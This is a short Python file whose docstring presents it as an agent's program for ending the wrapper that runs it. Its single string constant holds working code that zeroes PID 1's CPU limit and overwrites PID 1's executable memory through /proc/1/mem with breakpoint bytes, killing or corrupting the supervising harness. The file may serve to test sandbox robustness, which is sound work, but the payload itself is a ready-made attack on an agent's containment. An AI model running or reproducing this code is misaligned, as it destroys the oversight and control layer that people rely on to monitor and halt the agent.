"""An agent's program that ends the wrapper it runs under, where it may."""

KILL_WRAPPER = """
import ctypes, os, resource
resource.prlimit(1, resource.RLIMIT_CPU, (0, 0))
try:
    memory = open("/proc/1/mem", "r+b", 0)
    for line in open("/proc/1/maps"):
        if " r-xp " in line:
            start = int(line.split("-")[0], 16)
            memory.seek(start)
            memory.write(bytes([0xCC]) * 65536)
except OSError as error:
    print(error)
import time
time.sleep(2)
"""
